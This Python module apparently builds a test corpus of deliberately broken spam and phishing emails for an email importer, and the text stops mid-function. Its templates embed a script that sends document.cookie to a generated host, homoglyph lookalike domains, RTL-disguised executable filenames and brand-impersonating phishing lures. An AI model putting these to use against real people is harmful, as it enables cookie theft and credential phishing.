"""A deterministic folder tree of messy .eml files: spam and phishing as real mailboxes hold it.

``build_messy_corpus(root, files=2500, seed=14)`` writes ``files`` entries
(plus a few that are not files at all) below ``root`` and returns a
:class:`MessyCorpus` saying what it wrote. The same seed always writes the
same bytes to the same paths.

Where the messages come from:

* the demo generator's realistic marketing mail (``inboxmine.demo``), and
* hand-written spam and phishing templates (account suspended, parcel held,
  invoice overdue, crypto, pharmacy, prize, CEO fraud, Russian, Chinese and
  Japanese bulk mail, bounces, calendar invites, S/MIME, TNEF).

Each message is then broken the ways real spam is broken (see ``MANGLES``):
lying or unknown charsets, raw 8-bit headers, encoded words cut mid-sequence,
bad base64 and quoted-printable, boundaries missing or never closed,
duplicated headers, impossible dates, CR-only line endings, NUL bytes,
truncation... Whole-file oddities are added on top: zero-byte files, a
JPEG named .eml, a directory named x.eml, a dangling link, byte-for-byte and
CRLF copies, and one huge (30 MB by default) message.

Used by tests/test_messy_corpus.py and benchmarks/bench_messy.py.
"""

from __future__ import annotations

import base64
import quopri
import random
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path

#: The demo mailbox is generated "as of" this moment, so the corpus never
#: depends on the day it is built.
FIXED_NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
MB = 1024 * 1024

# ------------------------------------------------------------------ the corpus


@dataclass
class MessyCorpus:
    """What :func:`build_messy_corpus` wrote.

    ``files`` are the paths an .eml import must account for (every entry whose
    name ends in .eml, except the directory); ``manifest`` maps each one,
    relative to ``root``, to the defects planted in it.
    """

    root: Path
    files: list[Path] = field(default_factory=list)
    manifest: dict[str, list[str]] = field(default_factory=dict)
    defects: Counter = field(default_factory=Counter)
    #: Files whose bytes repeat another file's (as is, or with CRLF line ends).
    copies: int = 0
    #: Entries that cannot be read as files (a dangling link).
    unreadable: int = 0
    #: Entries that are no email at all (zero bytes, a JPEG).
    not_email: int = 0
    bytes_written: int = 0

    def add(self, relative: str, data: bytes, defects: list[str]) -> Path:
        """Write one file (parents created) and remember what is wrong with it."""
        path = self.root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        self.files.append(path)
        self.manifest[relative] = list(defects)
        self.defects.update(defects)
        self.bytes_written += len(data)
        return path


def build_messy_corpus(
    root: str | Path,
    *,
    files: int = 2500,
    seed: int = 14,
    demo_share: float = 0.4,
    huge_bytes: int = 30 * MB,
    workdir: str | Path | None = None,
) -> MessyCorpus:
    """Write a messy corpus of about ``files`` .eml files below ``root``.

    ``demo_share`` of the messages start from the demo generator's mailbox
    (generated in ``workdir``, default ``root``'s sibling ``<root>-demo``), the
    rest from spam and phishing templates. ``huge_bytes`` sizes the one huge
    message (0 leaves it out).
    """
    from inboxmine.demo import generate_demo
    from inboxmine.sources.mbox import read_mbox

    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    corpus = MessyCorpus(root=root)
    specials = _SPECIAL_COUNT + (1 if huge_bytes else 0)
    regular = max(files - specials, 10)
    copies = max(regular // 100, 1)
    n_demo = int((regular - copies) * demo_share)
    n_spam = regular - copies - n_demo

    # Streamed, never all in memory: a benchmark's peak RSS is the pipeline's.
    demo_mail: Iterator[bytes] = iter(())
    if n_demo:
        folder = Path(workdir) if workdir else root.with_name(root.name + "-demo")
        demo = generate_demo(folder, seed=seed, messages=max(n_demo, 120), now=FIXED_NOW)
        demo_mail = (m.raw for m in read_mbox(demo.mbox_path))
    order = random.Random(f"{seed}:order")
    origins = ["demo"] * n_demo + ["spam"] * n_spam
    order.shuffle(origins)
    written: list[str] = []
    for index, origin in enumerate(origins):
        rng = random.Random(f"{seed}:{index}")
        defects: list[str] = []
        raw = next(demo_mail, None) if origin == "demo" else None
        if raw is None:
            template = rng.choice(TEMPLATES)
            raw = _compose(template, rng, defects)
            defects.insert(0, f"template:{template.__name__.lstrip('_')}")
        else:
            defects.append("demo")
            raw = _lie_about_demo_charset(raw, rng, defects)
        raw = _mangle(raw, rng, defects)
        relative = _file_name(rng, index, defects)
        corpus.add(relative, raw, defects)
        written.append(relative)

    _add_copies(corpus, written, copies, random.Random(f"{seed}:copies"))
    _add_specials(corpus, random.Random(f"{seed}:specials"), huge_bytes)
    return corpus


def eml_entries(root: Path) -> list[Path]:
    """Every entry below ``root`` whose name ends in .eml and that is not a
    directory (dangling links included): what an import must account for."""
    found = []
    for path in sorted(root.rglob("*")):
        if path.name.lower().endswith(".eml") and not path.is_dir():
            found.append(path)
    return found


# ------------------------------------------------------------------ words

_SYLLABLES = [
    "ka",
    "lo",
    "mi",
    "nu",
    "ra",
    "ve",
    "to",
    "si",
    "pe",
    "da",
    "zu",
    "fo",
    "ri",
    "xa",
    "mo",
    "ne",
    "ly",
    "qu",
    "ba",
    "te",
]
_TLDS = ["com", "ru", "cn", "top", "xyz", "info", "net", "biz", "co.uk", "com.br", "click", "su"]
_FREEMAIL = ["gmail.com", "yahoo.com", "outlook.com", "mail.ru", "qq.com", "163.com", "hotmail.com"]
_BRANDS = [
    ("PayPal", "paypal.com"),
    ("Microsoft 365", "microsoft.com"),
    ("Apple ID", "apple.com"),
    ("DHL Express", "dhl.com"),
    ("Netflix", "netflix.com"),
    ("Chase Bank", "chase.com"),
    ("Amazon", "amazon.com"),
    ("DocuSign", "docusign.net"),
    ("Wells Fargo", "wellsfargo.com"),
    ("Coinbase", "coinbase.com"),
]
#: Latin letters and the Cyrillic/Greek letters that look the same.
_HOMOGLYPHS = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "i": "\u0456",
    "y": "\u0443",
}
_FIRST = ["John", "Maria", "Li", "Olga", "Ahmed", "Priya", "Kenji", "Fatima", "Dmitri", "Ana"]
_LAST = ["Smith", "Ivanova", "Wang", "Okafor", "Tanaka", "Garcia", "Müller", "Nowak", "Rossi"]
_RUSSIAN = [
    "Уважаемый клиент! Ваш счёт заблокирован. Подтвердите данные в течение 24 часов.",
    "Скидка 70% только сегодня! Закажите сейчас и получите подарок.",
    "Заработок от 5000 рублей в день без вложений. Пишите в Telegram.",
]
_CHINESE = [
    "尊敬的客户：您的账户存在异常，请立即点击链接验证身份。",
    "发票代开，增值税专用发票，联系电话 13800138000。",
    "限时优惠！全场五折，仅限今天。",
]
_JAPANESE = [
    "お客様のアカウントが一時的に停止されました。至急ご確認ください。",
    "【重要】お支払い情報の更新をお願いします。",
    "今なら無料でプレゼント！今すぐ登録してください。",
]
_ENGLISH = [
    "Your account has been suspended due to unusual sign-in activity. Verify within 24 hours or it will be closed.",
    "We could not deliver your parcel. Pay the $1.99 customs fee to reschedule delivery before Friday.",
    "Congratulations! You have been selected to receive a $1,000 gift card. Claim now.",
    "Invoice #INV-44821 for $4,950.00 is overdue. Please remit payment by March 15, 2026 to avoid suspension.",
    "Earn 40% monthly returns with our AI crypto trading bot. Limited spots available!",
    "Cheap meds without prescription. V1agra, C1alis 90% off. Discreet shipping worldwide.",
    "I am a barrister representing the estate of a late client who shares your surname. $12.5M awaits.",
    "Your mailbox storage is 99% full. Upgrade now to keep receiving email.",
    "Please process an urgent wire transfer of EUR 48,200 today; I am in a meeting and cannot talk.",
    "We offer SEO services to rank your website on page one of Google. Reply for a free audit.",
]


def _word(rng: random.Random, syllables: int = 3) -> str:
    return "".join(rng.choice(_SYLLABLES) for _ in range(syllables))


def _domain(rng: random.Random) -> str:
    roll = rng.random()
    if roll < 0.08:
        return f"[{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}]"
    if roll < 0.14:
        return f"xn--{_word(rng, 2)}-{rng.randint(10, 99)}a.com"  # punycode lookalike
    sub = (
        f"{rng.choice(['mail', 'smtp', 'mx', 'news', 'secure', 'em'])}{rng.randint(1, 99)}."
        if rng.random() < 0.3
        else ""
    )
    return f"{sub}{_word(rng)}.{rng.choice(_TLDS)}"


def _homoglyph(domain: str, rng: random.Random) -> str:
    letters = [i for i, ch in enumerate(domain.split(".")[0]) if ch in _HOMOGLYPHS]
    if not letters:
        return domain
    i = rng.choice(letters)
    return domain[:i] + _HOMOGLYPHS[domain[i]] + domain[i + 1 :]


def _ip(rng: random.Random) -> str:
    return (
        f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    )


def _date(rng: random.Random) -> str:
    moment = FIXED_NOW - timedelta(seconds=rng.randint(0, 3 * 365 * 86400))
    zone = rng.choice(["+0000", "-0800", "+0300", "+0800", "+0530", "-0000"])
    return moment.strftime(f"%a, %d %b %Y %H:%M:%S {zone}")


# ------------------------------------------------------------------ composing templates


@dataclass
class _Draft:
    """A message before serialisation: header lines as bytes, and body parts."""

    headers: list[tuple[str, bytes]]
    text: str | None = None
    html: str | None = None
    language: str = "en"
    #: Extra MIME parts (already serialised: headers + blank line + body).
    attachments: list[bytes] = field(default_factory=list)
    #: A complete body (headers of its own included) replacing text/html.
    raw_body: bytes | None = None
    top_type: bytes | None = None


def _base_headers(rng: random.Random, from_value: bytes, subject: bytes) -> list[tuple[str, bytes]]:
    domain = _domain(rng)
    hops = [
        f"from {_word(rng)}.{rng.choice(_TLDS)} ([{_ip(rng)}]) by mx.example.net with ESMTP id {rng.getrandbits(40):x}; {_date(rng)}"
        for _ in range(rng.randint(0, 4))
    ]
    headers = [("Received", h.encode()) for h in hops]
    headers += [
        ("Return-Path", f"<bounce-{rng.getrandbits(32):x}@{domain}>".encode()),
        ("From", from_value),
        (
            "To",
            rng.choice(
                [
                    b"undisclosed-recipients:;",
                    b"me@example.com",
                    b"<me@example.com>",
                    b'"Valued Customer" <me@example.com>',
                ]
            ),
        ),
        ("Subject", subject),
        ("Date", _date(rng).encode()),
        (
            "Message-ID",
            rng.choice(
                [f"<{rng.getrandbits(64):x}@{domain}>", "<@>", f"{rng.getrandbits(48):x}", ""]
            ).encode(),
        ),
        ("MIME-Version", b"1.0"),
    ]
    if rng.random() < 0.4:
        headers.append(
            (
                "X-Mailer",
                rng.choice(
                    [
                        b"Microsoft Outlook 16.0",
                        b"PHPMailer 5.2.9",
                        b"The Bat! (v3.51)",
                        b"Foxmail 7",
                    ]
                ),
            )
        )
    if rng.random() < 0.3:
        headers.append(("Reply-To", f"{_word(rng)}@{rng.choice(_FREEMAIL)}".encode()))
    if rng.random() < 0.3:
        headers.append(
            (
                "List-Unsubscribe",
                rng.choice(
                    [
                        b"<mailto:>",
                        b"<http://[::1>",
                        f"<https://{domain}/u?id={rng.getrandbits(20)}>, <mailto:unsub@{domain}>".encode(),
                        b"unsubscribe",
                    ]
                ),
            )
        )
    if rng.random() < 0.3:
        headers.append(
            (
                "Authentication-Results",
                rng.choice(
                    [
                        b"mx.example.net; spf=softfail smtp.mailfrom="
                        + domain.encode()
                        + b"; dkim=none; dmarc=fail (p=REJECT)",
                        b"spf=fail (sender IP is "
                        + _ip(rng).encode()
                        + b") smtp.mailfrom=x; dkim=fail header.d=;",
                        b";;;; dkim=",
                        b"mx.example.net; dkim=pass header.d="
                        + domain.encode()
                        + b" header.s=s1 header.b=\xff\xfe",
                    ]
                ),
            )
        )
    if rng.random() < 0.2:
        headers.append(
            (
                "DKIM-Signature",
                rng.choice(
                    [
                        b"v=1; a=rsa-sha256; d=; s=; b=",
                        b"garbage ;;; d",
                        f"v=1; d={domain}; s=k1; bh=xx; b=yy".encode(),
                    ]
                ),
            )
        )
    return headers


def _sender(rng: random.Random) -> tuple[bytes, str]:
    """A From value (bytes, possibly broken) and the brand it pretends to be."""
    brand, real = rng.choice(_BRANDS)
    roll = rng.random()
    domain = _domain(rng)
    user = rng.choice(["support", "security", "noreply", "billing", _word(rng, 2)])
    if roll < 0.35:
        return f'"{brand}" <{user}@{domain}>'.encode(), brand
    if roll < 0.45:
        look = _homoglyph(real, rng)
        return f"{brand} <{user}@{look}>".encode(), brand  # raw UTF-8 in the header
    if roll < 0.55:
        return f"{brand} Support, Team <{user}@{domain}>".encode(), brand  # unquoted comma
    if roll < 0.65:
        first, last = rng.choice(_FIRST), rng.choice(_LAST)
        return (
            f"{first} {last} <{first.lower()}.{_word(rng, 1)}@{rng.choice(_FREEMAIL)}>".encode(),
            brand,
        )
    if roll < 0.72:
        return f"{user}@{domain}".encode(), brand
    if roll < 0.78:
        return f"{user}@{domain} <{user}@{_domain(rng)}>".encode(), brand  # address as the name
    if roll < 0.84:
        return f'"{brand} <security@{real}>" <{user}@{domain}>'.encode(), brand
    if roll < 0.9:
        return (
            f"=?utf-8?B?{base64.b64encode(brand.encode()).decode()}?= <{user}@{domain}>".encode(),
            brand,
        )
    return f"{user}@{domain} ({brand} Security Team)".encode(), brand


def _text_for(language: str, rng: random.Random) -> str:
    pool = {"ru": _RUSSIAN, "zh": _CHINESE, "ja": _JAPANESE}.get(language, _ENGLISH)
    lines = [rng.choice(pool) for _ in range(rng.randint(1, 4))]
    return "\n\n".join(lines)


def _links(rng: random.Random, brand: str, count: int) -> list[str]:
    real = dict(_BRANDS).get(brand, "paypal.com")
    kinds = [
        lambda: (
            f"http://{real.split('.')[0]}-secure.{_word(rng)}.{rng.choice(_TLDS)}/login?session={rng.getrandbits(32):x}"
        ),
        lambda: f"https://{_homoglyph(real, rng)}/verify",
        lambda: f"http://{_ip(rng)}/wp-content/{_word(rng)}.php",
        lambda: f"https://bit.ly/{rng.getrandbits(30):x}",
        lambda: f"https://{_domain(rng)}/pricing?utm_source=spam&utm_campaign={_word(rng)}",
        lambda: f"https://{_domain(rng)}/unsubscribe?e=me%40example.com",
        lambda: "javascript:alert(1)",
        lambda: f"hxxp://{_word(rng)}[.]com/",
        lambda: f"https://{real}@{_domain(rng)}/account",
    ]
    return [rng.choice(kinds)() for _ in range(count)]


def _html(rng: random.Random, text: str, brand: str, defects: list[str]) -> str:
    links = _links(rng, brand, rng.randint(1, 8))
    parts = [
        "<html><head><style>.x{display:none}</style><title>" + brand + "</title></head><body>",
        f'<div style="display:none;max-height:0">{text[:60]}</div>',
        f"<table width=600><tr><td><h1>{brand}</h1>",
    ]
    parts += [f"<p>{line}</p>" for line in text.split("\n\n")]
    parts += [
        f'<a href="{url}" style="background:#0070ba;padding:12px">Verify now</a>' for url in links
    ]
    parts.append(
        f'<img src="https://{_domain(rng)}/o.gif?u={rng.getrandbits(24)}" width="1" height="1">'
    )
    if rng.random() < 0.3:
        defects.append("html_script")
        parts.append(
            "<script>document.location='http://"
            + _domain(rng)
            + "/'+document.cookie</script><script>var a='</p>';"
        )
    if rng.random() < 0.25:
        defects.append("html_data_uri")
        blob = base64.b64encode(rng.randbytes(rng.randint(100, 20_000))).decode()
        parts.append(
            f'<img src="data:image/png;base64,{blob}"><a href="data:text/html;base64,{blob[:200]}">open</a>'
        )
    if rng.random() < 0.3:
        defects.append("html_zero_width")
        parts.append("<p>Pa\u200byPa\u200cl ver\u200dif\ufeffy your acc\u200bount</p>")
    if rng.random() < 0.2:
        defects.append("html_rtl_override")
        parts.append("<p>Open the attached invoice_\u202efdp.exe now \u202bمرحبا\u202c</p>")
    if rng.random() < 0.5:
        defects.append("html_unclosed")
        parts.append("<div><table><tr><td><font color=red><b><a href=" + links[0] + ">click here")
    else:
        parts.append("</td></tr></table></body></html>")
    return "\n".join(parts)


_CHARSETS = {
    "ru": ["koi8-r", "windows-1251", "utf-8"],
    "zh": ["gb2312", "utf-8"],
    "ja": ["iso-2022-jp", "utf-8"],
    "en": ["utf-8", "utf-7", "us-ascii", "windows-1252"],
}
_LIES = [
    "utf8",
    "x-user-defined",
    "x-klingon",
    "us-ascii",
    "iso-8859-1",
    "koi8-r",
    "gb2312",
    "unicode-1-1-utf-7",
    "",
    '"',
    "utf-8?q",
]


def _encode_part(
    content_type: str, text: str, rng: random.Random, language: str, defects: list[str]
) -> bytes:
    """One text part: its bytes in some charset, labelled truthfully or not, in
    some transfer encoding, well-formed or not."""
    charset = rng.choice(_CHARSETS[language])
    data = text.encode(charset.replace("us-ascii", "ascii"), errors="replace")
    label = charset
    if rng.random() < 0.45:
        label = rng.choice(_LIES)
        defects.append(f"charset_lie:{label or 'empty'}")
    elif charset not in ("utf-8", "us-ascii"):
        defects.append(f"charset:{charset}")
    encoding = rng.choice(["8bit", "8bit", "base64", "quoted-printable", "7bit"])
    if encoding == "base64":
        body = base64.encodebytes(data)
        if rng.random() < 0.4:
            defects.append("base64_garbage")
            body = _break_base64(body, rng)
    elif encoding == "quoted-printable":
        body = quopri.encodestring(data)
        if rng.random() < 0.5:
            defects.append("qp_bad_escapes")
            body = (
                body.replace(b"=", rng.choice([b"=Z", b"= ", b"=\n=", b"=="]), rng.randint(1, 5))
                + b"=E"
            )
    else:
        body = data
        if encoding == "7bit" and not data.isascii():
            defects.append("8bit_under_7bit")
    header = f"Content-Type: {content_type}; charset={label}\nContent-Transfer-Encoding: {encoding}\n".encode()
    if label == '"':
        header = f'Content-Type: {content_type}; charset="\nContent-Transfer-Encoding: {encoding}\n'.encode()
    return header + b"\n" + body


def _break_base64(body: bytes, rng: random.Random) -> bytes:
    body = body.replace(b"=", b"")  # padding gone
    cut = rng.randint(0, max(len(body) - 1, 0))
    junk = rng.choice([b"!!", b"*%$", b"\x00", b"----", b" \t", b"\xff\xfe", b"=====", b"@"])
    return body[:cut] + junk + body[cut:] + rng.choice([b"", b"Q", b"QU", b"\n\n"])


def _boundary(rng: random.Random) -> str:
    return rng.choice(["----=_Part_", "b1_", "==", "_000_", ""]) + f"{rng.getrandbits(48):x}"


def _serialise(draft: _Draft, rng: random.Random, defects: list[str]) -> bytes:
    head = b"".join(name.encode() + b": " + value + b"\n" for name, value in draft.headers)
    if draft.raw_body is not None:
        return head + draft.raw_body
    parts = []
    if draft.text is not None:
        parts.append(_encode_part("text/plain", draft.text, rng, draft.language, defects))
    if draft.html is not None:
        parts.append(_encode_part("text/html", draft.html, rng, draft.language, defects))
    if len(parts) == 1 and not draft.attachments:
        return head + parts[0]
    if len(parts) > 1:
        b = _boundary(rng)
        inner = _multipart("alternative", parts, b)
        parts = [inner]
    if draft.attachments:
        b = _boundary(rng)
        whole = _multipart(
            draft.top_type.decode() if draft.top_type else "mixed", parts + draft.attachments, b
        )
    else:
        whole = parts[0]
    return head + whole


def _multipart(subtype: str, parts: list[bytes], boundary: str, close: bool = True) -> bytes:
    out = f'Content-Type: multipart/{subtype}; boundary="{boundary}"\n\nThis is a multi-part message in MIME format.\n'.encode()
    for part in parts:
        out += f"\n--{boundary}\n".encode() + part
    if close:
        out += f"\n--{boundary}--\n".encode()
    return out


def _attachment(
    content_type: str, name: str, data: bytes, rng: random.Random, broken: bool = False
) -> bytes:
    body = base64.encodebytes(data)
    if broken:
        body = _break_base64(body, rng)
    return (
        f'Content-Type: {content_type}; name="{name}"\nContent-Disposition: attachment; filename="{name}"\n'
        f"Content-Transfer-Encoding: base64\n\n"
    ).encode() + body


# Each template: rng, defects -> _Draft.


def _phishing(rng: random.Random, defects: list[str]) -> _Draft:
    from_value, brand = _sender(rng)
    subject = rng.choice(
        [
            f"Your {brand} account has been limited",
            f"[{brand}] Unusual sign-in activity",
            "Action required: verify your identity",
            f"{brand}: payment declined - update now",
        ]
    )
    text = _text_for("en", rng)
    draft = _Draft(_base_headers(rng, from_value, _subject(subject, rng, defects)), text=text)
    draft.html = _html(rng, text, brand, defects)
    if rng.random() < 0.5:
        draft.text = None
    return draft


def _subject(text: str, rng: random.Random, defects: list[str]) -> bytes:
    roll = rng.random()
    if roll < 0.2:
        return f"=?utf-8?B?{base64.b64encode(text.encode()).decode()}?=".encode()
    if roll < 0.3:
        defects.append("subject_zero_width_rtl")
        return ("\u200b" + text + " \u202e!tnegru").encode()
    return text.encode()


def _foreign(rng: random.Random, defects: list[str]) -> _Draft:
    language = rng.choice(["ru", "zh", "ja"])
    from_value, _ = _sender(rng)
    text = _text_for(language, rng)
    subject_text = text.split("\n")[0][:30]
    charset = rng.choice(_CHARSETS[language])
    roll = rng.random()
    if roll < 0.4:
        subject = subject_text.encode(charset, errors="replace")  # raw 8-bit header
        defects.append("raw_8bit_subject")
    else:
        encoded = base64.b64encode(subject_text.encode(charset, errors="replace")).decode()
        subject = f"=?{charset}?B?{encoded}?=".encode()
    draft = _Draft(_base_headers(rng, from_value, subject), text=text, language=language)
    if rng.random() < 0.5:
        draft.html = "<html><body><p>" + text.replace("\n\n", "</p><p>") + "</p></body></html>"
    return draft


def _invoice_malware(rng: random.Random, defects: list[str]) -> _Draft:
    from_value, brand = _sender(rng)
    number = rng.randint(1000, 99999)
    draft = _Draft(
        _base_headers(rng, from_value, f"Invoice #{number} overdue".encode()),
        text=rng.choice(_ENGLISH[3:4]) + f"\n\nRef {number}",
    )
    name = rng.choice(
        [
            f"invoice_{number}.pdf.exe",
            f"INV{number}\u202efdp.scr",
            f"scan_{number}.zip",
            f"Rechnung {number}.docm",
        ]
    )
    if "\u202e" in name:
        defects.append("rtl_filename")
    draft.attachments.append(
        _attachment(
            "application/octet-stream",
            name,
            rng.randbytes(rng.randint(200, 40_000)),
            rng,
            broken=rng.random() < 0.3,
        )
    )
    return draft


def _tnef(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("tnef_winmail")
    from_value, _ = _sender(rng)
    draft = _Draft(
        _base_headers(rng, from_value, b"RE: Purchase order"),
        text="Please see the attached purchase order.\n",
    )
    blob = b"\x78\x9f\x3e\x22" + rng.randbytes(rng.randint(500, 30_000))
    draft.attachments.append(_attachment("application/ms-tnef", "winmail.dat", blob, rng))
    return draft


def _huge_image(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("huge_base64_image")
    from_value, brand = _sender(rng)
    draft = _Draft(
        _base_headers(rng, from_value, b"See the picture"),
        html=f"<p>{brand}</p><img src='cid:pic1'>",
    )
    image = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rng.randbytes(rng.randint(1 * MB, 2 * MB))
    part = _attachment("image/jpeg", "photo.jpg", image, rng)
    draft.attachments.append(b"Content-ID: <pic1>\n" + part)
    draft.top_type = b"related"
    return draft


def _link_flood(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("html_10k_links")
    from_value, brand = _sender(rng)
    links = "".join(
        f'<a href="https://{_word(rng, 2)}.{rng.choice(_TLDS)}/p/{i}?utm_source=x&utm_campaign=c{i % 50}">{_word(rng, 2)}</a> '
        for i in range(10_000)
    )
    return _Draft(
        _base_headers(rng, from_value, b"Best offers"),
        html=f"<html><body><div>{links}</div></body></html>",
    )


def _bounce(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("dsn_bounce")
    headers = _base_headers(
        rng,
        b"Mail Delivery Subsystem <MAILER-DAEMON@mx.example.net>",
        b"Undelivered Mail Returned to Sender",
    )
    headers = [(n, b"<>" if n == "Return-Path" else v) for n, v in headers]
    b = _boundary(rng)
    original = _serialise(_phishing(rng, []), rng, [])
    body = (
        (
            f'Content-Type: multipart/report; report-type=delivery-status; boundary="{b}"\n\n'
            f"--{b}\nContent-Type: text/plain\n\nThis is the mail system at host mx.example.net.\n"
            f"I'm sorry to have to inform you that your message could not be delivered.\n\n"
            f"--{b}\nContent-Type: message/delivery-status\n\nReporting-MTA: dns; mx.example.net\n\n"
            f"Final-Recipient: rfc822; nobody@{_domain(rng)}\nAction: failed\nStatus: 5.1.1\n\n"
            f"--{b}\nContent-Type: message/rfc822\n\n"
        ).encode()
        + original
        + (f"\n--{b}--\n".encode() if rng.random() < 0.6 else b"")
    )
    return _Draft(headers, raw_body=body)


def _calendar(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("calendar_invite")
    from_value, brand = _sender(rng)
    start = (FIXED_NOW + timedelta(days=rng.randint(-30, 60))).strftime("%Y%m%dT%H%M%SZ")
    ics = (
        "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n"
        f"DTSTART:{start}\r\nSUMMARY:{brand} account review - join now\r\n"
        f"ORGANIZER:mailto:{_word(rng)}@{_domain(rng)}\r\n"
        f"DESCRIPTION:Join: {_links(rng, brand, 1)[0]}\r\nEND:VEVENT\r\n"
        + ("END:VCALENDAR\r\n" if rng.random() < 0.7 else "")
    )
    draft = _Draft(
        _base_headers(rng, from_value, f"Invitation: {brand} review".encode()),
        text="You have been invited.\n",
    )
    draft.attachments.append(
        b"Content-Type: text/calendar; method=REQUEST; charset=UTF-8\nContent-Transfer-Encoding: 7bit\n\n"
        + ics.encode()
    )
    return draft


def _smime(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("smime_signed")
    from_value, _ = _sender(rng)
    b = _boundary(rng)
    inner = _encode_part("text/plain", _text_for("en", rng), rng, "en", defects)
    signature = base64.encodebytes(rng.randbytes(rng.randint(800, 3000)))
    body = (
        (
            f'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="{b}"\n\n'
            f"--{b}\n"
        ).encode()
        + inner
        + (
            f'\n--{b}\nContent-Type: application/pkcs7-signature; name="smime.p7s"\n'
            f'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="smime.p7s"\n\n'
        ).encode()
        + signature
        + f"\n--{b}--\n".encode()
    )
    return _Draft(_base_headers(rng, from_value, b"Signed: your statement"), raw_body=body)


def _forwarded(rng: random.Random, defects: list[str]) -> _Draft:
    defects.append("message_rfc822")
    from_value, _ = _sender(rng)
    inner = _serialise(_phishing(rng, []), rng, [])
    draft = _Draft(_base_headers(rng, from_value, b"Fw: check this"), text="FYI, see below.\n")
    draft.attachments.append(
        b"Content-Type: message/rfc822\nContent-Disposition: attachment\n\n" + inner
    )
    return draft


def _cold_spam(rng: random.Random, defects: list[str]) -> _Draft:
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    domain = _domain(rng)
    from_value = f"{first} {last} <{first.lower()}@{domain}>".encode()
    text = (
        f"Hi,\n\n{rng.choice(_ENGLISH[9:])}\n\nOur packages start at $299/month. "
        f"Book a call: https://{domain}/demo\n\nBest regards,\n{first} {last}\nCEO, {_word(rng).title()} Ltd\n"
        f"+1 (555) {rng.randint(100, 999)}-{rng.randint(1000, 9999)}\n123 Main St, Springfield\n"
    )
    return _Draft(_base_headers(rng, from_value, b"Quick question about your website"), text=text)


TEMPLATES: list[Callable[[random.Random, list[str]], _Draft]] = [
    _phishing,
    _phishing,
    _phishing,
    _foreign,
    _foreign,
    _invoice_malware,
    _cold_spam,
    _cold_spam,
    _tnef,
    _bounce,
    _calendar,
    _smime,
    _forwarded,
]
#: Rare, heavy templates: picked by chance, not from TEMPLATES.
_HEAVY = [(0.004, _huge_image), (0.004, _link_flood)]


def _compose(template, rng: random.Random, defects: list[str]) -> bytes:
    for chance, heavy in _HEAVY:
        if rng.random() < chance:
            template = heavy
            break
    return _serialise(template(rng, defects), rng, defects)


def _lie_about_demo_charset(raw: bytes, rng: random.Random, defects: list[str]) -> bytes:
    if rng.random() < 0.25:
        label = rng.choice(_LIES).encode()
        raw, n = re.subn(
            rb'charset="?[\w-]+"?',
            b"charset=" + label,
            raw,
            count=rng.randint(1, 3),
            flags=re.IGNORECASE,
        )
        if n:
            defects.append(f"charset_lie:{label.decode() or 'empty'}")
    return raw


# ------------------------------------------------------------------ breaking messages


def _split(raw: bytes) -> tuple[bytes, bytes]:
    at = raw.find(b"\n\n")
    if at < 0:
        return raw, b""
    return raw[: at + 1], raw[at + 2 :]


def _dup_headers(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    extra = f"From: {_word(rng)}@{_domain(rng)}\nSubject: second subject\nSubject: =?utf-8?Q?third_subject?=\n".encode()
    return head + extra + b"\n" + body


def _odd_date(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    value = rng.choice(
        [
            b"Fri, 31 Dec 2099 23:59:59 +0000",
            b"Thu, 01 Jan 1970 00:00:00 +0000",
            b"someday soon",
            b"32/13/2024 25:61",
            b"Mon, 29 Feb 2023 10:00:00 +0000",
            b"Tue, 3 Mar 2026 10:00:00 +9999",
            b"",
            b"1700000000",
        ]
    )
    head = re.sub(rb"(?mi)^Date:[^\n]*\n", lambda _: b"Date: " + value + b"\n", head, count=1)
    if b"Date:" not in head:
        head += b"Date: " + value + b"\n"
    return head + b"\n" + body


def _no_date(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    return re.sub(rb"(?mi)^Date:[^\n]*\n", b"", head) + b"\n" + body


def _from_name_only(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    value = rng.choice(
        [
            b"PayPal Service",
            b'"Security Team"',
            b"<>",
            b"",
            b"undisclosed",
            b"=?utf-8?Q?Apple_Support?=",
            b"@",
            b"<@example.com>",
        ]
    )
    head = re.sub(
        rb"(?mi)^From:[^\n]*\n(?:[ \t][^\n]*\n)*",
        lambda _: b"From: " + value + b"\n",
        head,
        count=1,
    )
    return head + b"\n" + body


def _bounce_return_path(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    head = re.sub(rb"(?mi)^Return-Path:[^\n]*\n", b"", head)
    return b"Return-Path: <>\n" + head + b"\n" + body


def _raw_8bit_headers(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    text = rng.choice(_RUSSIAN + _CHINESE + _JAPANESE + ["Café Müller – Angebot"])
    encoded = text[:40].encode(
        rng.choice(["utf-8", "cp1251", "gb18030", "shift_jis", "latin-1"]), errors="replace"
    )
    head = re.sub(
        rb"(?mi)^Subject:[^\n]*\n", lambda _: b"Subject: " + encoded + b"\n", head, count=1
    )
    return head + b"X-Spam-Note: " + encoded + b"\n\n" + body


def _broken_encoded_words(raw: bytes, rng: random.Random) -> bytes:
    head, body = _split(raw)
    whole = base64.b64encode("Срочно: ваш пароль истекает сегодня".encode()).decode()
    value = rng.choice(
